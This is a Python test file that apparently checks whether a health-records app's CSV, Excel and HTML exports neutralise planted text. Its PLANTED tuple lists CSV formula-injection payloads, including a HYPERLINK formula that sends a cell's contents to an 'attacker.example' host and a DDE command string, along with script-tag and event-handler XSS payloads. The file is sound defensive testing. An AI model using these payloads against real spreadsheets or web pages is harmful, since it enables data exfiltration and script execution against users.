"""Text that somebody planted in a name, an id, a note or a theme: no download runs it as a formula or reads it as HTML.

Every table that leaves the app goes through one of these writers; a frame of each kind of text goes through each.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Callable
from html.parser import HTMLParser

import openpyxl
import pandas as pd
import pytest
from typing_extensions import override

from pipeline.presentation import spreadsheets
from pipeline.presentation.html import account
from pipeline.presentation.html.call_list import print_table
from pipeline.presentation.spreadsheets import cells
from pipeline.presentation.spreadsheets.call_list import call_list_xlsx
from pipeline.presentation.spreadsheets.tables import book_xlsx
from pipeline.records.privacy import PatientTable, Source
from tests.conftest import ROOT

PLANTED = (
    '=HYPERLINK("http://attacker.example/"&A1;"ver")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "＝1+1", "'=1+1", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    "<a href='javascript:alert(1)'>ver</a>", "&lt;b&gt;", "{{ 7*7 }}", "</td></table><h1>x</h1>",
)  # fmt: skip
HELD = ("Paciente", "Nota do contato", "Fila de espera", "Acompanhamento", "Tema", "Quem responde", "Unidade")
FRAME = pd.DataFrame({held: pd.Series(PLANTED, dtype="str") for held in HELD})
PLANTED_HEADERS = pd.DataFrame([["x"] * len(PLANTED)] * 2, columns=list(PLANTED), dtype="str")
_WRITES = re.compile(r"csv\.(?:writer|DictWriter)\(|\.to_(?:csv|excel)\(")
NOW = dt.datetime(2026, 11, 23, 9, 0)

BOOKS: dict[str, Callable[[pd.DataFrame], bytes]] = {
    "table": spreadsheets.xlsx_bytes,
    "sheets": lambda frame: book_xlsx([("=1+1", frame), ("Temas", frame)]),
    "call list": lambda frame: call_list_xlsx(frame, "=Agenda", frame.columns[1], ("Confirmou", "=1+1")),
}
PAGES: dict[str, Callable[[pd.DataFrame], str]] = {
    "paper": print_table,
    "patient's copy": lambda frame: account.patient_html([_table(frame)], (), NOW),
    "account": lambda frame: account.account_html(
        PLANTED[9], PLANTED[10], PLANTED, [account.Section(PLANTED[9], PLANTED[10], PLANTED)]
    ),
}


def _table(frame: pd.DataFrame) -> PatientTable:
    rows = tuple(tuple(map(str, row)) for row in frame.itertuples(index=False, name=None))
    return PatientTable(Source.ROWS, PLANTED[9], tuple(map(str, frame.columns)), rows)


@pytest.mark.parametrize("frame", [FRAME, PLANTED_HEADERS], ids=["cells", "headers"])
def test_no_cell_of_a_csv_is_a_formula_and_every_text_comes_back(frame: pd.DataFrame) -> None:
    content = spreadsheets.csv_bytes(frame).decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(content, newline=""), delimiter=";")
    assert not [text for row in (header, *rows) for text in row if text[:1] in tuple("=+-@\t\r\n＝＋－＠")]  # noqa: RUF001
    assert [[cells.unguard(text) for text in row] for row in rows] == frame.to_numpy().tolist()
    assert [cells.unguard(text) for text in header] == list(frame.columns)


@pytest.mark.parametrize("frame", [FRAME, PLANTED_HEADERS], ids=["cells", "headers"])
@pytest.mark.parametrize("name", BOOKS)
def test_no_cell_of_a_workbook_is_a_formula_a_link_or_an_error(name: str, frame: pd.DataFrame) -> None:
    book = openpyxl.load_workbook(io.BytesIO(BOOKS[name](frame)))
    for sheet in book:
        found = [one for row in sheet.iter_rows() for one in row if one.value is not None]
        assert {one.data_type for one in found} == {"s"} and not any(one.hyperlink for one in found)
        texts = [str(one.value) for one in sheet[1]] + [str(one.value) for one in sheet[2]]
        assert cells.excel_text(str(frame.columns[0])) in texts and cells.excel_text(str(frame.iat[0, 0])) in texts


class _Tags(HTMLParser):
    """The tags and attributes of a page that could do something, and all its text."""

    def __init__(self) -> None:
        super().__init__()
        self.live: list[str] = []
        self.text = ""

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        acts = [name for name, value in attrs if name.startswith("on") or "javascript:" in (value or "")]
        self.live += [*acts, *([tag] if tag in {"script", "img", "a", "b"} else [])]

    @override
    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("name", PAGES)
def test_no_text_of_a_page_is_a_tag(name: str) -> None:
    found = _Tags()
    found.feed(PAGES[name](FRAME))
    assert found.live == []
    for shown in ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "&lt;b&gt;", "{{ 7*7 }}"):
        assert shown in found.text


def test_there_is_no_other_writer_of_tables() -> None:
    """A page that wrote its own would not be guarded. The samples are invented by us."""
    sources = [path for room in ("pipeline", "dashboard") for path in (ROOT / room).rglob("*.py")]
    own = {str(p.relative_to(ROOT)) for p in sources if _WRITES.search(p.read_text("utf-8"))}
    assert own == {"pipeline/presentation/spreadsheets/tables.py", "pipeline/sampling.py"}
